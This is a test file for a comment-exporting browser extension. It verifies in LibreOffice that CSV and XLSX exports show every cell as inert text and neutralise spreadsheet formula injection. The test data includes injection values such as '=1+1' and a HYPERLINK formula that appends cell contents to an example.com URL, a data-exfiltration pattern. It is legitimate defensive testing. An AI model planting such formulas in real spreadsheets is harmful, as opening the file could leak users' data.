/** The exported files as an office program shows it, cell by cell, against what the world has. */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { toListCsv } from '../../../src/export/lists/list-csv';
import { toPeopleCsv } from '../../../src/export/lists/people-csv';
import { HARD_TEXTS } from '../../replica/world/hard-texts';
import type { WorldComment, WorldNote } from '../../replica/world/types';
import { readInCalc } from '../../support/desk/read-in-calc';
import type { CalcCell } from '../../support/desk/read-in-calc';
import { removeFolder } from '../../support/remove-folder';
import { findDeskPrograms } from '../../support/setup/desk-programs';
import { isDangerousCell, undoCellGuard } from '../../support/undo-cell-guard';
import { waitFor } from '../../support/wait-for';
import { answerWelcome } from '../steps/answer-welcome';
import { exportChosen, openExportChoices } from '../steps/choose-export';
import { exportInPanel } from '../steps/export-in-panel';
import { findNote } from '../steps/find-note';
import { flattenComments } from '../steps/flatten-comments';
import { launchWithReplica } from '../steps/launch-with-replica';
import type { Stage } from '../steps/launch-with-replica';
import { readComments } from '../steps/read-comments';

const programs = findDeskPrograms('office');

/** Half a character cannot be written in UTF-8; the program breaks lines by LF alone. */
const asShown = (text: string) =>
  text
    .replace(/\r\n?/g, '\n')
    .replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\uFFFD');

/** What the columns must show of a comment: texts. */
function listTexts(comment: WorldComment, root: WorldComment): Readonly<Record<string, string>> {
  return {
    'Comment ID': comment.id,
    'Note ID': comment.noteId,
    'Thread (root comment ID)': comment === root ? '' : root.id,
    'Reply to comment ID': comment.targetCommentId ?? '',
    'Reply to user ID': comment.targetAuthor?.userId ?? '',
    'Reply to': asShown(comment.targetAuthor?.nickname ?? ''),
    Content: asShown(comment.content),
    'IP location': comment.ipLocation ?? '',
    'User ID': comment.author.userId,
    'User name': asShown(comment.author.nickname),
    Mentions: comment.mentions.map(({ nickname }) => asShown(nickname)).join(' '),
    'Mentioned user IDs': comment.mentions.map(({ userId }) => userId).join(' '),
  };
}

/** How a text of a kind of file reads, by its written rule. */
const KINDS = {
  CSV: { undo: undoCellGuard, isSafe: (shown: string) => !isDangerousCell(shown) },
  // Cells of a workbook are texts by type: whatever they begin with, nothing is run.
  XLSX: { undo: (shown: string) => shown, isSafe: () => true },
} as const;
type Kind = keyof typeof KINDS;
type Rows = readonly Readonly<Record<string, CalcCell>>[];

describe.skipIf(!programs)('exported tables in LibreOffice', () => {
  let stage: Stage;
  let note: WorldNote;
  const tables = new Map<Kind, Rows>();
  let notes: Rows;
  let completeness: Rows;

  beforeAll(async () => {
    if (!programs) throw new Error('No office program to be had.');
    stage = await launchWithReplica({ chromium: { realVisibility: true } });
    const { replica, chromium } = stage;
    note = findNote(replica, 'hostile');
    await answerWelcome(chromium.extension);
    const site = await chromium.newPage();
    await site.bringToFront();
    await site.goto(replica.noteUrl('hostile'));
    await site.locator('.parent-comment').first().waitFor();
    const panel = await chromium.extension.openSidePanel();
    await panel.getByRole('button', { name: 'Load comments for me' }).click();
    await panel.getByText('Reached the end of the page').waitFor({ timeout: 120_000 });
    const wanted = flattenComments(note).length;
    await waitFor(async () => (await readComments(chromium.extension, note.noteId)).length === wanted, {
      what: 'every comment to be stored',
    });
    const { downloadDir } = chromium;
    const read = async (fileName: string, sheet?: string): Promise<Rows> => {
      const [header = [], ...cells] = await readInCalc(programs, join(downloadDir, fileName), sheet);
      return cells.map((row) =>
        Object.fromEntries(row.map((cell, index) => [header[index]?.shown ?? '', cell])),
      );
    };
    tables.set('CSV', await read((await exportInPanel(panel, downloadDir)).fileName));
    await openExportChoices(panel);
    await panel.getByLabel('Kind of file').selectOption({ label: 'Excel (XLSX)' });
    const workbook = await exportChosen(panel, downloadDir, '.xlsx');
    tables.set('XLSX', await read(workbook.fileName));
    notes = await read(workbook.fileName, 'Notes');
    completeness = await read(workbook.fileName, 'Completeness');
  });

  afterAll(() => stage.close());

  const threadOf = (commentId: string) =>
    note.comments.find(
      ({ id, replies }) => id === commentId || replies.some((reply) => reply.id === commentId),
    );
  const pairs = (kind: Kind) =>
    (tables.get(kind) ?? []).map((row) => {
      const id = KINDS[kind].undo(row['Comment ID']?.shown ?? '');
      const comment = flattenComments(note).find((each) => each.id === id);
      const root = threadOf(id);
      if (!comment || !root) throw new Error(`No comment of the world has the id ${id}.`);
      return { row, comment, root };
    });

  describe.each(['CSV', 'XLSX'] as const)('%s', (kind) => {
    const { undo, isSafe } = KINDS[kind];

    test('has a row for every comment, each once', () => {
      const ids = pairs(kind).map(({ comment }) => comment.id);
      expect(ids.toSorted()).toEqual(
        flattenComments(note)
          .map(({ id }) => id)
          .toSorted(),
      );
    });

    test('shows every text as a text, none run, none changed: ids, formulas, quotes, line breaks, emoji, right to left', () => {
      let dangerous = 0;
      for (const { row, comment, root } of pairs(kind)) {
        for (const [column, text] of Object.entries(listTexts(comment, root))) {
          const cell = row[column];
          expect(cell, column).toMatchObject({ kind: text === '' ? 'empty' : 'text' });
          expect(undo(cell?.shown ?? ''), column).toBe(text);
          expect(isSafe(cell?.shown ?? ''), cell?.shown).toBe(true);
          if (isDangerousCell(text)) dangerous += 1;
        }
      }
      expect(dangerous).toBeGreaterThan(5);
    });

    test('shows numbers as numbers and times as they are written', () => {
      for (const { row, comment, root } of pairs(kind)) {
        expect(row['Level']).toEqual({ shown: comment === root ? '0' : '1', kind: 'value' });
        // Comments without pictures come without the field: how many there are is not known then.
        const pictures = comment.pictures.length;
        expect(row['Picture count']).toEqual(
          pictures === 0 ? { shown: '', kind: 'empty' } : { shown: String(pictures), kind: 'value' },
        );
        const time = new Date(comment.createTime).toISOString();
        // A workbook holds the time itself, and shows it to the second.
        if (kind === 'CSV') expect(row['Created (UTC)']?.shown).toBe(time);
        else expect(row['Created (UTC)']).toEqual({ shown: `${time.slice(0, 19)}Z`, kind: 'value' });
      }
    });
  });

  test('the sheet of the note shows its title, text and author as texts, and its counts as numbers', () => {
    expect(notes).toHaveLength(1);
    const [row] = notes;
    const texts = {
      'Note ID': note.noteId,
      'Note title': note.title,
      'Note text': note.desc,
      'Note author': note.author.nickname,
    };
    for (const [column, text] of Object.entries(texts))
      expect(row?.[column], column).toEqual({ shown: asShown(text), kind: 'text' });
    expect(row?.['Note likes']?.kind).toBe('value');
  });

  test('the sheet of the report says how many there are, as numbers, and runs nothing', () => {
    const valueOf = (key: string) => completeness.find((row) => row['What']?.shown === key)?.['Value'];
    const all = flattenComments(note).length;
    expect(valueOf('comments.got')).toEqual({ shown: String(all), kind: 'value' });
    expect(valueOf('file.format')).toEqual({ shown: 'xlsx', kind: 'text' });
    expect(completeness.length).toBeGreaterThan(20);
    // What is computed or not understood would stand there as an error or as a number under a word's key.
    for (const row of completeness) {
      expect(row['What']?.kind).toBe('text');
      expect(row['Value']?.shown).not.toMatch(/^(?:#|Err:)/);
    }
  });

  test('would not, if the file were written without care', async () => {
    if (!programs) throw new Error('No office program to be had.');
    const folder = mkdtempSync(join(tmpdir(), 'careless-'));
    try {
      const path = join(folder, 'careless.csv');
      writeFileSync(path, '\uFEFFid,text\r\n0012345678901234567890,=1+1\r\n');
      const [, row] = await readInCalc(programs, path);
      expect(row).toEqual([
        { shown: expect.stringMatching(/^1\.2\d*E\+0*19$/), kind: 'value' },
        { shown: '2', kind: 'value' },
      ]);
    } finally {
      removeFolder(folder);
    }
  });
});

describe.skipIf(!programs)('lists of notes and people in LibreOffice', () => {
  const cases = HARD_TEXTS.map((text) => asShown(text));

  async function openList(csv: string) {
    if (!programs) throw new Error('No office program to be had.');
    const folder = mkdtempSync(join(tmpdir(), 'list-'));
    try {
      const path = join(folder, 'list.csv');
      writeFileSync(path, csv);
      return await readInCalc(programs, path);
    } finally {
      removeFolder(folder);
    }
  }

  /** A text as the program shows it; the guard undone, it is what the list was given. */
  function expectText(cell: CalcCell | undefined, text: string): void {
    expect(cell?.kind, text).toBe(text === '' ? 'empty' : 'text');
    expect(undoCellGuard(cell?.shown ?? ''), text).toBe(text);
    expect(isDangerousCell(cell?.shown ?? ''), text).toBe(false);
  }

  test('a saved list shows every text as it was, in headers too, and numbers as numbers', async () => {
    const rows = cases.map((text, index) => [text, '0012345678901234567890', '5e12', index] as const);
    const [header, ...shown] = await openList(toListCsv(['=1+1', 'id', '@SUM(A1)', 'likes'], rows));
    ['=1+1', 'id', '@SUM(A1)', 'likes'].forEach((name, index) => expectText(header?.[index], name));
    expect(shown).toHaveLength(rows.length);
    rows.forEach((row, line) => {
      row.slice(0, 3).forEach((text, index) => expectText(shown[line]?.[index], String(text)));
      expect(shown[line]?.[3]).toEqual({ shown: String(row[3]), kind: 'value' });
    });
  });

  test('a list of people keeps the cells that it came with, and the names that were found', async () => {
    const people = cases.map((text, index) => ({
      cells: [text, `=HYPERLINK("https://example.com/?x="&A1)`],
      result: 'done' as const,
      author: {
        id: { kind: 'site' as const, value: `5f${String(index).padStart(22, '0')}` },
        nickname: text,
        desc: `+${text}`,
        counts: { fans: { raw: '12', value: 12, approximate: false } },
        observed: {},
        firstSeenAt: 1,
        lastSeenAt: 1,
      },
    }));
    const csv = toPeopleCsv({ columns: ['who', '-campaign'], rows: people }, 'en');
    const [header = [], ...shown] = await openList(csv);
    const at = (name: string) => header.findIndex((cell) => cell.shown === name);
    expectText(header[1], '-campaign');
    expect(shown).toHaveLength(people.length);
    people.forEach(({ cells, author }, line) => {
      cells.forEach((text, index) => expectText(shown[line]?.[index], text));
      expectText(shown[line]?.[at('Author id')], author.id.value);
      expectText(shown[line]?.[at('Author')], author.nickname);
      expect(shown[line]?.[at('Followers')]).toEqual({ shown: '12', kind: 'value' });
    });
  });
});
